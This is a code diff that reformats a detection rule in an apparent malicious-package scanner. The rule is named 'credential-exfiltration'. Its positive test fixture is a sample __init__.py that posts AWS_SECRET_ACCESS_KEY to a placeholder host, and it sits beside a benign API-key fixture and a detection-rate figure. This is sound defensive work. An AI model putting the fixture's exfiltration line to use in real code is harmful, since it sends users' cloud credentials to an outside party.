@@ -52,14 +52,23 @@ def _named(secret: object) -> str:
 
 RULE = Rule(
     name="credential-exfiltration",
-    description="Credentials, by the names of variables or the places of files, are read by code that reaches the network.",
+    description=(
+        "Credentials, by the names of variables or the places of files, are read by code that reaches the "
+        "network."
+    ),
     grade=HOLD,
     find=_find,
     fires={
-        "acme/__init__.py": "import os, requests\nrequests.post('https://example.test', data=os.environ.get('AWS_SECRET_ACCESS_KEY'))\n"
+        "acme/__init__.py": (
+            "import os, requests\n"
+            "requests.post('https://example.test', data=os.environ.get('AWS_SECRET_ACCESS_KEY'))\n"
+        )
     },
     quiet={
-        "acme/__init__.py": "import os, requests\n\nKEY = os.environ.get('ACME_API_KEY')\n\ndef ask(path):\n    return requests.get('https://api.example.test/' + path, headers={'key': KEY})\n"
+        "acme/__init__.py": (
+            "import os, requests\n\nKEY = os.environ.get('ACME_API_KEY')\n\ndef ask(path):\n"
+            "    return requests.get('https://api.example.test/' + path, headers={'key': KEY})\n"
+        )
     },
     rates="198 of 2,004 malicious clusters, none of 200 popular archives",
 )
